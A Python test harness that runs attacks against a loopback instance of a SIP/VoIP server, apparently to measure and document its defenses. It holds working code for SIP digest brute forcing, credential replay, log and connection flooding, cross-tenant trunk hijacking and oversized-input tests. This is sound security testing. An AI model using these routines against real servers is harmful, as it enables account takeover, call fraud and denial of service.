#!/usr/bin/env python3
"""The attacks of issue 10 against a running tsps, with figures (docs/security.md).

Standard library only. Every loop is bounded; every socket is on loopback.

  attacks.py ATTACK --sip 127.0.0.1:5060 --http http://127.0.0.1:8080 --token T \
             --log /path/to/tsps.log --pid PID

ATTACK: bruteforce replay logflood fdflood capture ruri small. Prints one JSON
object of figures. The tsps under attack is provisioned by run.sh (tenants a.test and
b.test; b.test's 2001 is its tenant admin).
"""
import argparse
import hashlib
import json
import os
import socket
import time
import urllib.error
import urllib.request
import uuid

# ------------------------------------------------------------------- SIP by hand

def md5(s):
    return hashlib.md5(s.encode()).hexdigest()


def challenge_params(resp):
    """The first digest challenge in a 401/407 as a dict."""
    for line in resp.split("\r\n"):
        name, _, value = line.partition(":")
        if name.strip().lower() in ("www-authenticate", "proxy-authenticate") and "MD5" in value:
            params = {}
            for part in value.strip()[len("Digest "):].split(","):
                k, _, v = part.strip().partition("=")
                params[k] = v.strip('"')
            return params
    return None


def authorization(ch, method, uri, user, password, nc=1, cnonce="c0ffee"):
    ha1 = md5(f"{user}:{ch['realm']}:{password}")
    ha2 = md5(f"{method}:{uri}")
    ncs = f"{nc:08x}"
    resp = md5(f"{ha1}:{ch['nonce']}:{ncs}:{cnonce}:auth:{ha2}")
    return (f'Digest username="{user}", realm="{ch["realm"]}", nonce="{ch["nonce"]}", '
            f'uri="{uri}", response="{resp}", algorithm=MD5, qop=auth, nc={ncs}, cnonce="{cnonce}"')


class Ua:
    """A UDP user agent on a chosen loopback address."""

    def __init__(self, ip, tsps):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((ip, 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.tsps = tsps
        self.local = "%s:%d" % self.sock.getsockname()

    def request(self, method, uri, frm, to, call_id, cseq, extra=(), body=""):
        branch = "z9hG4bK" + uuid.uuid4().hex
        user = frm.split("@")[0]
        lines = [f"{method} {uri} SIP/2.0",
                 f"Via: SIP/2.0/UDP {self.local};rport;branch={branch}",
                 f"From: <sip:{frm}>;tag=atk{cseq}", f"To: <sip:{to}>",
                 f"Call-ID: {call_id}", f"CSeq: {cseq} {method}",
                 f"Contact: <sip:{user}@{self.local}>", "Max-Forwards: 70", *extra,
                 f"Content-Length: {len(body)}"]
        return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()

    def send(self, data):
        self.sock.sendto(data, self.tsps)

    def recv(self, timeout):
        self.sock.settimeout(timeout)
        try:
            return self.sock.recv(65536).decode(errors="replace")
        except socket.timeout:
            return None

    def final(self, data, timeout=2.0, cseq=None):
        self.send(data)
        end = time.time() + timeout
        while time.time() < end:
            r = self.recv(max(0.01, end - time.time()))
            if r is None:
                return None
            code = status(r)
            if code and code >= 200 and (cseq is None or f"CSeq: {cseq}" in r):
                return r
        return None

    def register(self, user, domain, password, call_id, expires=600):
        uri = f"sip:{domain}"
        aor = f"{user}@{domain}"
        ch = self.final(self.request("REGISTER", uri, aor, aor, call_id, 1, [f"Expires: {expires}"]))
        auth = authorization(challenge_params(ch), "REGISTER", uri, user, password)
        ok = self.final(self.request("REGISTER", uri, aor, aor, call_id, 2,
                                     [f"Expires: {expires}", f"Authorization: {auth}"]), cseq="2 REGISTER")
        return status(ok), auth


def status(resp):
    if not resp or not resp.startswith("SIP/2.0 "):
        return None
    return int(resp.split()[1])


# ------------------------------------------------------------------- HTTP

def http(base, method, path, token=None, body=None, headers=None, cookie=None, csrf=None):
    data = None if body is None else (body if isinstance(body, bytes) else json.dumps(body).encode())
    req = urllib.request.Request(base + path, data=data, method=method)
    if token:
        req.add_header("Authorization", f"Bearer {token}")
    if body is not None and not (headers and "Content-Type" in headers):
        req.add_header("Content-Type", "application/json")
    for k, v in (headers or {}).items():
        req.add_header(k, v)
    if cookie:
        req.add_header("Cookie", cookie)
    if csrf:
        req.add_header("X-CSRF-Token", csrf)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.headers, r.read().decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.headers, e.read().decode(errors="replace")


def tenant_id(a, domain):
    _, _, body = http(a.http, "GET", "/api/v1/tenants", a.token)
    return next(t["id"] for t in json.loads(body) if t["domain"] == domain)


def metric(a, name):
    _, _, text = http(a.http, "GET", "/api/v1/metrics", a.token)
    for line in text.splitlines():
        if line.startswith(name + " "):
            return float(line.split()[-1])
    return None


def log_size(a):
    lines = 0
    with open(a.log, "rb") as f:
        while chunk := f.read(1 << 20):
            lines += chunk.count(b"\n")
    return lines, os.path.getsize(a.log)


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


# ------------------------------------------------------------------- attacks

def bruteforce(a):
    """One nonce, guesses with counting nc, as fast as the socket goes for 10 s; then
    the right password from the attacker and from the real phone."""
    phone = Ua("127.0.0.1", a.sip)
    before_code, _ = phone.register("1001", "a.test", "secret1001", "bf-phone")
    atk = Ua("127.0.0.66", a.sip)
    ch = challenge_params(atk.final(atk.request("REGISTER", "sip:a.test", "1001@a.test",
                                                "1001@a.test", "bf-1", 1)))
    sent = answered = forbidden = 0
    start = time.time()
    nc = 0
    while time.time() - start < 10:
        for _ in range(200):
            nc += 1
            auth = authorization(ch, "REGISTER", "sip:a.test", "1001", f"guess{nc}", nc)
            atk.send(atk.request("REGISTER", "sip:a.test", "1001@a.test", "1001@a.test",
                                 f"bf-{nc}", 2, [f"Authorization: {auth}"]))
            sent += 1
        while True:
            r = atk.recv(0.0005)
            if r is None:
                break
            answered += 1
            forbidden += status(r) == 403
    while (r := atk.recv(0.5)) is not None:
        answered += 1
        forbidden += status(r) == 403
    elapsed = time.time() - start
    ch2 = challenge_params(atk.final(atk.request("REGISTER", "sip:a.test", "1001@a.test",
                                                 "1001@a.test", "bf-right", 1)))
    right = atk.final(atk.request("REGISTER", "sip:a.test", "1001@a.test", "1001@a.test",
                                  "bf-right", 2,
                                  [f"Authorization: {authorization(ch2, 'REGISTER', 'sip:a.test', '1001', 'secret1001')}"]),
                      timeout=2.0)
    after_code, _ = phone.register("1001", "a.test", "secret1001", "bf-phone-2")
    return {
        "guesses_sent": sent, "seconds": round(elapsed, 1),
        "guesses_per_second_sent": round(sent / elapsed),
        "guesses_answered": answered, "answered_403": forbidden,
        "right_password_from_attacker": status(right),
        "phone_before": before_code, "phone_after": after_code,
        "metric_blocked_source": metric(a, 'tsps_sip_auth_total{result="blocked_source"}'),
    }


def replay(a):
    """A captured REGISTER Authorization replayed 0.5 s, 5 s and 30 s later from another
    socket with another Call-ID and Contact; a captured INVITE Proxy-Authorization
    replayed with a new Call-ID while the callee's phone counts INVITEs."""
    callee = Ua("127.0.0.1", a.sip)
    callee.register("1002", "a.test", "secret1002", "rp-callee")
    phone = Ua("127.0.0.1", a.sip)
    code, auth = phone.register("1001", "a.test", "secret1001", "rp-phone")
    atk = Ua("127.0.0.66", a.sip)
    results = {}
    waited = 0.0
    for delay in (0.5, 5.0, 30.0):
        time.sleep(delay - waited)
        waited = delay
        r = atk.final(atk.request("REGISTER", "sip:a.test", "1001@a.test", "1001@a.test",
                                  f"rp-{delay}", 7, ["Expires: 600", f"Authorization: {auth}"]))
        results[f"register_replay_after_{delay}s"] = status(r)
    # The INVITE: 1001 calls 1002 once for real; the callee answers 486 to each INVITE.
    ch = challenge_params(phone.final(phone.request("INVITE", "sip:1002@a.test", "1001@a.test",
                                                    "1002@a.test", "rp-call", 1)))
    pauth = authorization(ch, "INVITE", "sip:1002@a.test", "1001", "secret1001")
    invites = 0

    def answer_invites(window):
        nonlocal invites
        end = time.time() + window
        while time.time() < end:
            r = callee.recv(0.05)
            if r and r.startswith("INVITE "):
                invites += 1
                head = r.split("\r\n\r\n")[0].split("\r\n")
                keep = [l for l in head if l.split(":")[0] in ("Via", "From", "To", "Call-ID", "CSeq")]
                keep = [l + (";tag=busy" if l.startswith("To:") else "") for l in keep]
                callee.send(("SIP/2.0 486 Busy Here\r\n" + "\r\n".join(keep)
                             + "\r\nContent-Length: 0\r\n\r\n").encode())
    phone.send(phone.request("INVITE", "sip:1002@a.test", "1001@a.test", "1002@a.test",
                             "rp-call", 2, [f"Proxy-Authorization: {pauth}"]))
    answer_invites(1.0)
    real = invites
    r = atk.final(atk.request("INVITE", "sip:1002@a.test", "1001@a.test", "1002@a.test",
                              "rp-fraud", 2, [f"Proxy-Authorization: {pauth}"]))
    answer_invites(1.0)
    results.update({
        "legit_register": code,
        "invite_replay_answer": status(r),
        "callee_invites_real_call": real,
        "callee_invites_after_replay": invites - real,
    })
    return results


def folded(n, lines=1000):
    junk = " " + "b" * 61 + "\r\n"
    return ("OPTIONS sip:a.test SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP 127.0.0.1:5999;rport;branch=z9hG4bKfold{n}\r\n"
            f"From: <sip:1001@a.test>;tag=f{n}\r\nTo: <sip:a.test>\r\n"
            f"Call-ID: fold-{n}\r\nCSeq: 1 OPTIONS\r\nX-Junk: a\r\n" + junk * lines +
            "Max-Forwards: 70\r\nContent-Length: 0\r\n\r\n").encode()


def logflood(a):
    """100 datagrams of 62 KB, each a header folded over a thousand lines; OPTIONS round
    trips measured from another socket meanwhile."""
    lines0, bytes0 = log_size(a)
    atk = Ua("127.0.0.66", a.sip)
    probe = Ua("127.0.0.1", a.sip)
    rtts = []
    for n in range(100):
        atk.send(folded(n))
        if n % 10 == 0:
            t = time.time()
            probe.final(probe.request("OPTIONS", "sip:a.test", "1001@a.test", "a.test", f"lf-{n}", 1))
            rtts.append((time.time() - t) * 1000)
    answered = 0
    while atk.recv(0.5) is not None:
        answered += 1
    time.sleep(1)
    lines1, bytes1 = log_size(a)
    return {"datagram_bytes": len(folded(0)), "answered_400": answered,
            "log_lines": lines1 - lines0, "log_bytes": bytes1 - bytes0,
            "options_rtt_ms_max": round(max(rtts), 2), "options_rtt_ms_median": round(sorted(rtts)[len(rtts) // 2], 2)}


def fdflood(a):
    """1,100 idle TCP connections to SIP for 18 s (tsps limited to 1,024 descriptors by
    run.sh); the accept loop's CPU, the log written, and the API meanwhile."""
    lines0, bytes0 = log_size(a)
    cpu0 = cpu_seconds(a.pid)
    host, port = a.sip
    conns = []
    for _ in range(1100):
        s = socket.socket()
        s.bind(("127.0.0.77", 0))
        s.settimeout(2)
        try:
            s.connect((host, port))
            conns.append(s)
        except OSError:
            s.close()
    api = []
    start = time.time()
    while time.time() - start < 18:
        t = time.time()
        try:
            code, _, _ = http(a.http, "GET", "/healthz")
        except OSError:
            code = None
        api.append((code, (time.time() - t) * 1000))
        time.sleep(1)
    cpu = cpu_seconds(a.pid) - cpu0
    for s in conns:
        s.close()
    lines1, bytes1 = log_size(a)
    ok = [ms for code, ms in api if code == 200]
    return {"connections_opened": len(conns), "seconds": 18,
            "tsps_cpu_percent_of_a_core": round(100 * cpu / 18, 1),
            "log_lines": lines1 - lines0, "log_bytes": bytes1 - bytes0,
            "api_answered": f"{len(ok)}/{len(api)}",
            "api_ms_max": round(max(ok), 1) if ok else None,
            "refused_per_source": metric(a, 'tsps_connections_refused_total{listener="sip_tcp",reason="per_source"}')}


def capture(a):
    """Tenant B's admin claims 127.0.0.1 (where A's phone is) as a trunk's source; then
    the operator tries; then A's phone calls."""
    phone = Ua("127.0.0.1", a.sip)
    phone.register("1001", "a.test", "secret1001", "cap-phone")
    b = tenant_id(a, "b.test")
    code, headers, body = http(a.http, "POST", "/api/v1/auth/login",
                               body={"domain": "b.test", "login": "2001", "password": "mallory-secret-1"})
    cookie = headers["Set-Cookie"].split(";")[0]
    csrf = json.loads(body)["csrf_token"]
    trunk = {"name": "grab", "peer_host": "127.0.0.9", "inbound_sources": ["127.0.0.1"]}
    admin, _, admin_body = http(a.http, "POST", f"/api/v1/tenants/{b}/trunks", body=trunk,
                                cookie=cookie, csrf=csrf)
    op, _, op_body = http(a.http, "POST", f"/api/v1/tenants/{b}/trunks", a.token, body=trunk)
    r = phone.final(phone.request("INVITE", "sip:1002@a.test", "1001@a.test", "1002@a.test", "cap-call", 1))
    return {"tenant_admin_create": admin, "tenant_admin_error": json.loads(admin_body).get("error", {}).get("code"),
            "operator_create": op, "operator_error": json.loads(op_body).get("error", {}).get("code"),
            "phone_invite_answer": status(r)}


def ruri(a):
    """A device of b.test calls sip:1002@a.test (b.test has a 1002 too, without a phone:
    routed there, the call would fail with 480)."""
    ua = Ua("127.0.0.1", a.sip)
    ch = challenge_params(ua.final(ua.request("INVITE", "sip:1002@a.test", "2001@b.test", "1002@a.test", "ruri", 1)))
    auth = authorization(ch, "INVITE", "sip:1002@a.test", "2001", "b-secret2001")
    r = ua.final(ua.request("INVITE", "sip:1002@a.test", "2001@b.test", "1002@a.test", "ruri", 2,
                            [f"Proxy-Authorization: {auth}"]), timeout=3.0)
    return {"answer": status(r)}


def small(a):
    """A 200 kB query string, a 3 MB body, 60,000 contacts imported by one user, and a
    REGISTER for a domain nobody hosts."""
    out = {}
    host = a.http.split("//")[1]
    s = socket.create_connection(tuple([host.split(":")[0], int(host.split(":")[1])]))
    s.sendall(f"GET /api/v1/tenants?q={'a' * 200_000} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    s.settimeout(5)
    resp = b""
    try:
        while chunk := s.recv(65536):
            resp += chunk
    except socket.timeout:
        pass
    head, _, body = resp.decode(errors="replace").partition("\r\n\r\n")
    out["long_query"] = {"status": int(head.split()[1]), "json": body.startswith("{"), "body": body[:120]}
    code, _, body = http(a.http, "POST", "/api/v1/tenants", a.token, body=b"[" * 3_000_000)
    out["big_body"] = {"status": code, "code": json.loads(body).get("error", {}).get("code")}
    t = tenant_id(a, "a.test")
    _, _, users = http(a.http, "GET", f"/api/v1/tenants/{t}/users", a.token)
    u = next(x["id"] for x in json.loads(users) if x["extension"] == "1001")
    # 60,000 contacts in files of 5,000 (each under the 2 MB body limit).
    rss0 = rss_kb(a.pid)
    imported, answers = 0, []
    for batch in range(12):
        cards = "".join(f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Contact {i}\r\nTEL:+4144{i:07d}\r\nEND:VCARD\r\n"
                        for i in range(batch * 5000, (batch + 1) * 5000))
        code, _, body = http(a.http, "POST", f"/api/v1/tenants/{t}/users/{u}/contacts/import", a.token,
                             body=cards.encode(), headers={"Content-Type": "text/vcard"})
        answers.append(code)
        if code == 200:
            imported += json.loads(body)["created"]
        else:
            last = json.loads(body)["error"]
    time.sleep(2)
    out["import_60000"] = {"answers": answers, "imported": imported,
                           "refusal": last if imported < 60_000 else None,
                           "rss_growth_mb": round((rss_kb(a.pid) - rss0) / 1024, 1)}
    ua = Ua("127.0.0.66", a.sip)
    out["register_unknown_domain"] = status(ua.final(ua.request("REGISTER", "sip:nobody.test",
                                                                "1001@nobody.test", "1001@nobody.test", "unk", 1)))
    out["register_hosted_domain"] = status(ua.final(ua.request("REGISTER", "sip:a.test",
                                                               "1001@a.test", "1001@a.test", "hosted", 1)))
    return out


ATTACKS = {f.__name__: f for f in (bruteforce, replay, logflood, fdflood, capture, ruri, small)}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--sip", required=True)
    p.add_argument("--http", required=True)
    p.add_argument("--token", required=True)
    p.add_argument("--log", required=True)
    p.add_argument("--pid", type=int, required=True)
    a = p.parse_args()
    host, port = a.sip.rsplit(":", 1)
    a.sip = (host, int(port))
    print(json.dumps({a.attack: ATTACKS[a.attack](a)}))


if __name__ == "__main__":
    main()
